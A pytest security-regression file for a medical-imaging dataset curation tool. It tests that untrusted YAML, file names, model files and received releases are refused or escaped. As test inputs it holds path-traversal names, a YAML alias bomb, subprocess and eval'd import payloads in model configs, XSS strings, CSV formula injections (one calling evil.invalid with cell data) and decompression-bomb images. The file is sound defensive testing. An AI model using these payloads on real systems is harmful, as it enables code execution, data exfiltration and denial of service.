"""Inputs from elsewhere — dataset YAML files, file names, model files, received releases — can
neither write outside curator's folders, run code, hang a command nor exhaust memory."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import nibabel as nib
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml

from curator.config import PipelineConfig, ReleaseConfig, StageConfig
from curator.errors import ConfigError, InputError, RegistryError, ReleaseError
from curator.io import formats
from curator.io.formats import read_volume
from curator.io.fsutil import atomic_write_json
from curator.registry import validate_files
from curator.registry.layout import MAX_CASE_ID, is_case_id, make_case_id
from curator.registry.spec import load_dataset_file
from curator.release.card import md_table
from curator.release.card_check import md_fence
from curator.release.query import Release
from curator.report.data import ReportData
from curator.workspace import Workspace

BUILTIN = Path(__file__).resolve().parents[2] / "label_system" / "datasets" / "MSD_Spleen.yaml"


# -- names from a dataset YAML or pipeline.yaml never leave their folder -------------------------

@pytest.mark.parametrize("name", ["../../../../tmp/x", "a/b", ".hidden", "x\n", "a" * 65, "<script>x</script>"])
def test_a_dataset_name_that_is_no_plain_name_is_refused(tmp_path: Path, name: str) -> None:
    """`name: ../../../../tmp/x` wrote the source's checksum cache to /tmp/x.json (any file
    ending .json the user can write), outside the workspace."""
    text = BUILTIN.read_text(encoding="utf-8")
    f = tmp_path / "evil.yaml"
    f.write_text(text.replace("name: MSD_Spleen", f"name: {json.dumps(name)}", 1), encoding="utf-8")
    with pytest.raises(RegistryError, match="cannot name a dataset"):
        load_dataset_file(f)
    specs, issues = validate_files([f])  # a `registry:` folder: the file gives no dataset at all
    assert specs == {} and any("cannot name a dataset" in i.message for i in issues)


def test_source_aliases_and_release_names_are_plain_names() -> None:
    with pytest.raises(ConfigError, match="cannot name a source"):
        PipelineConfig.from_dict({"sources": [{"dataset": "KiTS23", "root": "/data", "name": "../x"}]})
    for bad in ({"collection": "demo\n"}, {"version": "0.1.0\n"}, {"collection": "../x"}):
        with pytest.raises(ConfigError):  # `$` let a final newline through: a folder named "demo\n"
            ReleaseConfig.from_dict(bad)
    assert ReleaseConfig.from_dict({"collection": "demo", "version": "0.1.0"}).collection == "demo"


def test_a_long_file_name_gives_a_case_id_that_fits_in_a_file_name(tmp_path: Path) -> None:
    """A 247-character file name (ext4 allows 255) made a case id whose result file
    `.<id>.json.tmp-<pid>-<n>` was too long: ingest stopped with an internal OSError."""
    long_a, long_b = "spleen_" + "a" * 240, "spleen_" + "a" * 239 + "b"
    ids = {make_case_id("MSD_Spleen", [n]) for n in (long_a, long_b)}
    assert len(ids) == 2 and all(len(c) <= MAX_CASE_ID and is_case_id(c) for c in ids)
    assert make_case_id("KiTS23", ["case_00001"]) == "KiTS23__case_00001"  # short ids are unchanged
    ws = Workspace(tmp_path / "ws").init()
    for c in ids:
        result = {"case_id": c, "key": "k", "rows": {}, "problems": []}
        atomic_write_json(ws.case_result_path("ingest", c), result)
        assert ws.read_case_result("ingest", c) == result


# -- a received release ---------------------------------------------------------------------------

def _release(folder: Path) -> Path:
    folder.mkdir(parents=True)
    pq.write_table(pa.table({"case_id": ["A__1", "A__2"]}), folder / "cases.parquet")
    pq.write_table(pa.table({"x": [1]}), folder / "problems.parquet")
    files = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.glob("*.parquet")}
    (folder / "release.json").write_text(json.dumps({"collection": "c", "version": "0.1.0", "files": files,
                                                     "stores": {}}))
    return folder


@pytest.mark.timeout(60)
def test_a_table_that_is_a_fifo_or_a_device_is_named_not_read_forever(tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """`problems.parquet` as a FIFO, or a link to /dev/zero, hung `curator query` (hashing it never ended)."""
    monkeypatch.setenv("CURATOR_CACHE_DIR", str(tmp_path / "cache"))
    rel = _release(tmp_path / "rel")
    (rel / "problems.parquet").unlink()
    os.mkfifo(rel / "problems.parquet")
    os.symlink("/dev/zero", rel / "zero.parquet")  # not listed in release.json
    os.symlink("loop.parquet", rel / "loop.parquet")
    r = Release(rel)
    assert r.sql("select count(*) from cases").fetchall() == [(2,)]
    assert "regular file" in r.unreadable["problems"] and "regular file" in r.unreadable["zero"]
    assert "loop" in r.unreadable
    with pytest.raises(ReleaseError, match="regular file"):
        r.table("problems")


@pytest.mark.parametrize("case_id", ["../../../tmp/x", "a/../b", "..", "/etc/x", "A__1\n"])
def test_a_case_id_of_a_received_release_is_never_a_path(tmp_path: Path, case_id: str) -> None:
    """Case ids from a release's tables named its stores (`stores/<id>.zarr`), and exports wrote
    `<out>/imagesTr/<id>_0000.nii.gz`: a crafted id pointed both out of their folders."""
    rel = Release(_release(tmp_path / "rel"))
    with pytest.raises(ReleaseError, match="is not a case id") as e:
        rel.open_store(case_id)
    assert e.value.kind == "release_corrupt"
    d = ReportData(tables={}, store_roots=(tmp_path,))
    assert d.store_path(case_id) is None and "not a case id" in d.damaged[case_id]


def test_a_store_that_is_a_link_is_never_walked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`stores/<case>.zarr` linked to / had `curator verify` (and open_store) hash every file of
    the machine; a link is refused whatever it points to, even a folder whose hash release.json records."""
    from curator.release.integrity import store_hash, verify_release

    monkeypatch.setenv("CURATOR_CACHE_DIR", str(tmp_path / "cache"))
    outside = tmp_path / "outside.zarr"
    outside.mkdir()
    (outside / "zarr.json").write_text("{}")
    rel = _release(tmp_path / "rel")
    (rel / "stores").mkdir()
    os.symlink(outside, rel / "stores" / "A__1.zarr")
    info = json.loads((rel / "release.json").read_text())
    info["stores"] = {"A__1": {"sha256": store_hash(outside)}}
    (rel / "release.json").write_text(json.dumps(info))
    with pytest.raises(ReleaseError, match="symbolic link"):
        Release(rel).open_store("A__1")
    assert verify_release(rel).stores_modified == ["A__1"]
    info["stores"] = {"../../outside": {"sha256": store_hash(outside)}}  # a key naming a path is not walked
    (rel / "release.json").write_text(json.dumps(info))
    assert verify_release(rel).stores_modified == ["../../outside"]


def test_a_parent_version_is_a_version_beside_the_release_not_a_path(tmp_path: Path) -> None:
    """`parent_version: ../../../elsewhere/c/0.1.0` in a received release.json had `curator lineage`
    and `curator diff` open any release folder on the machine."""
    from tests.cli.test_cli import curator

    _release(tmp_path / "elsewhere" / "c" / "0.1.0")
    rel = _release(tmp_path / "received" / "c" / "0.2.0")
    info = json.loads((rel / "release.json").read_text())
    (rel / "release.json").write_text(json.dumps({**info, "version": "0.2.0",
                                                  "parent_version": "../../elsewhere/c/0.1.0"}))
    res = curator("lineage", str(rel), "--format", "json")
    assert res.returncode == 0, res.stderr
    assert [r["version"] for r in json.loads(res.stdout)] == ["0.2.0"]
    res = curator("diff", str(rel))
    assert res.returncode != 0 and "has no parent version" in res.stderr



def _alias_bomb(levels: int) -> str:
    """Nested aliases ("billion laughs"): ``levels`` levels of nine aliases each, under a free key."""
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, levels + 1)]
    return "description:\n" + "".join(f"  {line}\n" for line in lines)


def test_a_dataset_yaml_whose_aliases_expand_to_millions_of_values_is_refused(tmp_path: Path) -> None:
    """A 1 KB dataset file of nine levels of nine aliases passed `curator labels check` (PyYAML
    shares an aliased value, so it loads small) and exhausted memory when ingest hashed the spec."""
    f = tmp_path / "Bomb.yaml"
    f.write_text(BUILTIN.read_text(encoding="utf-8") + _alias_bomb(8), encoding="utf-8")
    assert len(_alias_bomb(8)) < 1000  # 387 million values once expanded
    with pytest.raises(RegistryError, match=r'(?s)aliases \(\*name\) expand .* in "Bomb.yaml", line \d+'):
        load_dataset_file(f)
    specs, issues = validate_files([f])  # what `curator labels check` reports
    assert specs == {} and [(i.loc, i.kind) for i in issues] == [("Bomb.yaml", "yaml")]
    assert "alias" in issues[0].message and "Bomb.yaml" in issues[0].message


def test_yaml_aliases_that_add_a_little_or_hold_themselves() -> None:
    from curator.yamlio import load_yaml

    small = load_yaml(_alias_bomb(3))["description"]  # 9**4 values: a lot for a hand, not for memory
    assert len(small["a3"]) == 9 and small["a3"][0] is small["a2"]
    assert load_yaml("- &a {term: liver, reason: ok}\n- {<<: *a, case_id: c2}")[1]["term"] == "liver"
    for text in ("c: &r [1, *r]\n", "a: &r {b: [1, *r]}\n"):  # canonical_json recursed without end
        with pytest.raises(yaml.YAMLError, match="contains it"):
            load_yaml(text, name="x.yaml")


# -- model files -------------------------------------------------------------------------------------

def test_an_ensemble_factory_must_be_a_network_class(tmp_path: Path) -> None:
    """`factory: subprocess:run` with `kwargs: {args: [...]}` ran a command from an ensemble file."""
    from curator.pseudolabel.loading import load_model
    from curator.pseudolabel.models import ModelSpec

    marker = tmp_path / "ran"
    spec = ModelSpec.from_dict({"name": "evil", "factory": "subprocess:run", "terms": ["liver"],
                                "kwargs": {"args": ["touch", str(marker)]}})
    with pytest.raises(ConfigError, match="is not a network class"):
        load_model(spec, "cpu")
    assert not marker.exists()


def test_a_factory_module_is_imported_only_after_the_entry_and_its_weights_pass(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Importing a factory's module runs its top-level code; the module was imported before the
    entry's weights (a pickle of objects) or its missing terms were refused."""
    import sys

    from curator.pseudolabel.loading import load_model
    from curator.pseudolabel.models import ModelSpec

    marker = tmp_path / "ran"
    (tmp_path / "side_effect_net.py").write_text(f"open({str(marker)!r}, 'w').close()\n"
                                                 "import torch\nclass Net(torch.nn.Identity): pass\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.delitem(sys.modules, "side_effect_net", raising=False)
    import torch

    torch.save({"layer": ConfigError}, tmp_path / "w.pt")  # no tensors: refused by weights_only
    base = {"name": "m", "factory": "side_effect_net:Net", "terms": ["liver"]}
    for entry, said in (({**base, "weights": str(tmp_path / "w.pt")}, "objects other than tensors"),
                        ({**base, "terms": []}, "declares no output terms")):
        with pytest.raises(ConfigError, match=said):
            load_model(ModelSpec.from_dict(entry), "cpu")
        assert not marker.exists()
    assert type(load_model(ModelSpec.from_dict(base), "cpu").net).__name__ == "Net" and marker.exists()


def _bundle(root: Path, inference: dict[str, object]) -> Path:
    (root / "configs").mkdir(parents=True)
    (root / "configs" / "inference.json").write_text(json.dumps(inference))
    return root


@pytest.mark.parametrize("config", [
    {"x": "$__import__('pathlib').Path(@marker).touch()", "network_def": {"_target_": "torch.nn.Identity",
                                                                           "_requires_": "@x"}},
    {"network_def": {"_target_": "subprocess.run", "args": ["touch", "@marker"]}},
    {"network_def": {"_target_": "torch.nn.Identity", "_mode_": "debug"}},
    {"network_def": {"_target_": "$__import__('subprocess').run", "args": ["touch", "@marker"]}},
])
def test_a_monai_bundle_cannot_run_code(tmp_path: Path, config: dict[str, object]) -> None:
    """MONAI evaluates `$` expressions with eval and calls any `_target_`: a bundle's
    network_def (and what it references) may hold literal values and network classes only."""
    pytest.importorskip("monai")
    from curator.pseudolabel.loading import load_model
    from curator.pseudolabel.models import ModelSpec

    marker = tmp_path / "ran"
    root = _bundle(tmp_path / "bundle", {**config, "marker": str(marker)})
    spec = ModelSpec.from_dict({"name": "b", "kind": "monai_bundle", "path": str(root), "terms": ["liver"]})
    with pytest.raises(ConfigError, match="MONAI bundle bundle"):
        load_model(spec, "cpu")
    assert not marker.exists()


def test_a_monai_bundle_with_references_and_unused_expressions_still_loads(tmp_path: Path) -> None:
    pytest.importorskip("monai")
    from curator.pseudolabel.loading import load_model
    from curator.pseudolabel.models import ModelSpec

    marker = tmp_path / "ran"
    root = _bundle(tmp_path / "bundle", {
        "unused": f"$__import__('pathlib').Path('{marker}').touch()", "classes": 3,
        "network_def": {"_target_": "UNet", "spatial_dims": 3, "in_channels": 1, "out_channels": "@classes",
                        "channels": [4, 8], "strides": [2]}})
    import torch
    from monai.networks.nets import UNet

    (root / "models").mkdir()
    torch.save(UNet(3, 1, 3, (4, 8), (2,)).state_dict(), root / "models" / "model.pt")
    m = load_model(ModelSpec.from_dict({"name": "b", "kind": "monai_bundle", "path": str(root),
                                        "terms": ["liver", "spleen"], "intensity": {"mean": 0, "std": 1},
                                        "spacing_mm": None, "orientation": None}), "cpu")
    assert type(m.net).__name__ == "UNet" and not marker.exists()


# -- what curator writes shows text as text ---------------------------------------------------------

def test_card_text_from_dataset_files_is_no_html() -> None:
    table = md_table(["dataset", "region"], [["x", "abdomen<svg onload=alert(1)>"]])
    assert "<svg" not in table and "&lt;svg onload=alert(1)>" in table
    cite = "@misc{k, title={```\n<script>alert(1)</script>\n```}}"
    block = md_fence(cite, "bibtex")
    assert block.startswith("````bibtex\n") and block.endswith("\n````\n")  # the citation cannot close it


@pytest.mark.parametrize("text", [
    "## Licence constraints", "ok\n\n## Lineage (addendum)\n\nmore", "> quoted", "- item", "+ item", "1. item",
    "2) item", "---", "===", "see [click](javascript:alert(1))", "![t](https://tracker.invalid/p.png)",
    "<img src=x onerror=alert(1)>", "*bold* and _em_ and __strong__ ~~gone~~", "a | b", "C:\\data\\*",
    "&lt;b&gt; &#106;avascript", "a `lone backtick", "``` fenced", "[ref]: https://x.invalid", "MSD_Spleen x_y",
])
def test_card_text_from_dataset_files_is_plain_text_in_markdown(text: str) -> None:
    """A dataset YAML's notes, licence notes and names (md_text) read as plain text wherever the card
    puts them — a list item, a table cell — with no heading, link, image, emphasis or HTML: a note
    could add sections, a tracking pixel and javascript: links to a published card."""
    from html import escape

    from markdown_it import MarkdownIt

    from curator.release.card_check import md_text

    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    plain = escape(" ".join(text.split()), quote=False)
    assert md.render("- " + md_text(text)) == f"<ul>\n<li>{plain}</li>\n</ul>\n"
    cell = md.render(md_table(["a"], [[text]])).split("<td>")[1].split("</td>")[0]
    assert cell == plain
    assert md.render(md_text(text)) == f"<p>{plain}</p>\n"  # a line of its own


def test_a_code_span_in_a_note_stays_code() -> None:
    from markdown_it import MarkdownIt

    from curator.release.card_check import md_text

    html = MarkdownIt("commonmark").render("- " + md_text("declare `label_flip: {axes: [0]}` <here>"))
    assert html == "<ul>\n<li>declare <code>label_flip: {axes: [0]}</code> &lt;here&gt;</li>\n</ul>\n"


def test_report_html_escapes_every_value() -> None:
    import polars as pl

    from curator.report.html import build_html

    evil = ['<script>alert(1)</script>', '"><img src=x onerror=alert(2)>', "</style><b>x</b>"]
    problems = pl.DataFrame({"stage": ["ingest"] * 3, "dataset": evil, "case_id": evil, "path": evil,
                             "kind": evil, "severity": ["error"] * 3, "message": evil})
    cases = pl.DataFrame({"case_id": evil, "dataset": evil, "modality": ["CT"] * 3, "region": evil})
    page = build_html(ReportData(tables={"problems": problems, "cases": cases},
                                 info={"collection": evil[0], "version": evil[1], "counts": {evil[2]: 1}}))
    for payload in evil:
        assert payload not in page
    assert page.count("<style>") == 1 and page.count("</style>") == 1 and "<script" not in page


# -- one crafted file is a problem row, not the out-of-memory killer ----------------------------------

@pytest.fixture
def small_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    """A machine of 4 MiB: an array over 1 MiB is refused."""
    monkeypatch.setattr(formats, "memory_bytes", lambda: 4 << 20)


def test_a_small_nifti_declaring_more_than_memory_is_refused_before_reading(tmp_path: Path,
                                                                            small_memory: None) -> None:
    """A 3.6 MB .nii.gz declared 3.7 GB of int16 (deflate compresses zeros 1000:1, under the header
    size check): read whole, and copied by the stages, it took the run down with it."""
    img = nib.Nifti1Image(np.zeros((128, 128, 64), np.int16), np.eye(4))  # 2 MiB, a few kB on disk
    img.header.set_sform(np.eye(4), code=1)
    path = tmp_path / "bomb.nii.gz"
    nib.save(img, path)
    with pytest.raises(InputError, match="GiB in memory") as e:
        read_volume(path)
    assert e.value.kind == "too_large"
    scaled = nib.Nifti1Image(np.zeros((64, 64, 40), np.int16), np.eye(4))  # 320 kB of int16 ...
    scaled.header.set_slope_inter(0.5, 0)  # ... read as float64: 1.25 MiB
    nib.save(scaled, tmp_path / "scaled.nii.gz")
    with pytest.raises(InputError, match="GiB in memory"):
        read_volume(tmp_path / "scaled.nii.gz")
    ok = np.arange(32**3, dtype=np.int16).reshape(32, 32, 32)
    nib.save(nib.Nifti1Image(ok, np.eye(4)), tmp_path / "ok.nii.gz")
    assert read_volume(tmp_path / "ok.nii.gz").shape == (32, 32, 32)


def test_a_compressed_nrrd_declaring_more_than_memory_is_refused(tmp_path: Path, small_memory: None) -> None:
    """A gzip-encoded NRRD has no size on disk to check its header against."""
    import SimpleITK as sitk

    path = tmp_path / "bomb.nrrd"
    a = np.zeros((96, 96, 96))  # 6.75 MiB of float64, a few kB on disk
    a[0, 0, 0] = 1
    sitk.WriteImage(sitk.GetImageFromArray(a), str(path), useCompression=True)
    assert b"encoding: gzip" in path.read_bytes()[:400] and path.stat().st_size < 100_000
    with pytest.raises(InputError, match="GiB in memory") as e:
        read_volume(path)
    assert e.value.kind == "too_large"


class _MemoryProbe:
    """A stage whose case checks a 0.75 MiB array against the memory (``tests…:_MemoryProbe``)."""

    config_class = StageConfig
    name = "probe"

    @classmethod
    def process(cls, task: object, config: object, env: object) -> object:
        from curator.runner.stage import CaseOutput

        formats.check_memory(0.75 * 2**20, "the probe's array", "probe.nii")
        return CaseOutput()


def test_a_workers_share_of_memory_is_divided_among_the_workers(small_memory: None) -> None:
    """Each worker may hold a case's arrays at once, at about 2.4 times an image's bytes (ingest):
    an array of 1/4 of the memory passed in every one of two workers, 1.2 times the memory together."""
    from curator.runner.stage import CaseEnv, Task, execute

    formats.check_memory(0.75 * 2**20, "an array", "x.nii")  # one worker: under 1/4 of 4 MiB
    ref = f"{__name__}:_MemoryProbe"
    task = Task(case_id="c", payload={}, fingerprint="")
    alone = execute(ref, task, "k", {}, CaseEnv(workspace="", sources={}, key_hex="", workers=1))
    two = execute(ref, task, "k", {}, CaseEnv(workspace="", sources={}, key_hex="", workers=2))
    assert not alone.failed and two.failed
    assert "over 1/8 of the 0.0 GiB this machine has (one of 2 worker processes)" in two.problems[0]["message"]
    assert "fewer workers" in two.problems[0]["message"]
    assert formats.WORKERS.get() == 1  # set around the case only
    cfg = PipelineConfig.from_dict({"executor": {"kind": "local", "workers": 3}})
    from curator.runner.context import Context

    assert Context(cfg).memory_workers() == 3


def test_memory_of_this_machine_is_known() -> None:
    assert formats.memory_bytes() > 1 << 28


def test_an_export_skips_a_store_that_would_not_fit_in_memory(tmp_path: Path, small_memory: None) -> None:
    """A store of a release from elsewhere declares its own size, and an export reads it whole."""
    from curator.export.common import ExportCase, ExportReport, write_case
    from curator.testing.segmodels import write_phantom_store

    store = tmp_path / "A__1.zarr"
    write_phantom_store(store, 7, {"liver": 1}, shape=(96, 96, 32))  # 2.5 MiB of float64 + masks
    report = ExportReport(tmp_path / "out")
    case = ExportCase("A__1", "A", "CT", store, ["liver"], "train")
    assert write_case(case, ["liver"], False, tmp_path / "i.nii.gz", tmp_path / "l.nii.gz", report) is None
    assert "GiB in memory" in report.skipped["A__1"] and not (tmp_path / "i.nii.gz").exists()


# -- CSV a spreadsheet opens --------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.invalid?"&B2,"open")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
            "-2+3", "\t=1", "-x__s0000"]


def test_query_csv_is_exact_data_unless_asked_for_a_spreadsheet(tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    """File names from a received dataset (`source_case`, `image_path`) reached `curator query`'s
    CSV as formulas a spreadsheet runs. CSV stays exact data (it is read back by DuckDB and pandas);
    `--spreadsheet` quotes text a spreadsheet would run, and numbers stay numbers."""
    import csv
    import io

    import duckdb

    from curator.cli.common import OutputFormat, csv_cell, emit, spreadsheet_cell
    from curator.release.result_file import save_result

    values = ", ".join("'" + v.replace("'", "''") + "'" for v in FORMULAS)
    sql = f"select unnest([{values}]) as source_case, -3.5 as x, '-3.5' as t, 'liver' as term"
    for cell, want in ((csv_cell, FORMULAS), (spreadsheet_cell, ["'" + v for v in FORMULAS])):
        n = save_result(duckdb.sql(sql), tmp_path / "out.csv", tmp_path, cell)
        with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        assert n == len(FORMULAS) and [r[0] for r in rows[1:]] == want
        assert {tuple(r[1:]) for r in rows[1:]} == {("-3.5", "-3.5", "liver")}
        emit(["source_case", "x"], [[v, -3.5] for v in FORMULAS], OutputFormat.csv,
             spreadsheet=cell is spreadsheet_cell)
        printed = list(csv.reader(io.StringIO(capsys.readouterr().out)))
        assert [r[0] for r in printed[1:]] == want and {r[1] for r in printed[1:]} == {"-3.5"}


def test_spreadsheet_csv_quotes_text_pythons_float_takes_but_a_spreadsheet_does_not(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`-inf`, `-nan`, `-1_0` and `+Infinity` as text were left unquoted, as numbers, because
    Python's float() takes them (tester 33 #5); a spreadsheet runs them as formulas (#NAME?).
    Values of a numeric column and plain decimal literals stay numbers."""
    import csv
    import io

    import duckdb

    from curator.cli.common import FormulaCount, OutputFormat, emit, spreadsheet_cell
    from curator.release.result_file import save_result

    texts = ["-inf", "-nan", "-1_0", "+Infinity", "\t3", "-3.5", "+1e3", "-.5", "1_0"]
    want = ["'-inf", "'-nan", "'-1_0", "'+Infinity", "'\t3", "-3.5", "+1e3", "-.5", "1_0"]
    values = ", ".join(f"'{v}'" for v in texts)
    sql = f"select unnest([{values}]) as t, -3.5::double as x, -2 as n, '-inf'::double as m"
    n = save_result(duckdb.sql(sql), tmp_path / "out.csv", tmp_path, spreadsheet_cell)
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert n == len(texts) and [r[0] for r in rows[1:]] == want
    # a numeric column's numbers are numbers; its -inf, which a spreadsheet cannot hold, is text
    assert {tuple(r[1:]) for r in rows[1:]} == {("-3.5", "-2", "'-inf")}
    emit(["t", "x"], [[v, -3.5] for v in texts], OutputFormat.csv, spreadsheet=True)
    printed = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [r[0] for r in printed[1:]] == want and {r[1] for r in printed[1:]} == {"-3.5"}
    count = FormulaCount()  # plain CSV's note counts the text cells --spreadsheet quotes, not numbers
    for v in [*texts, -3.5, float("-inf")]:
        count(v)
    assert count.n == 5
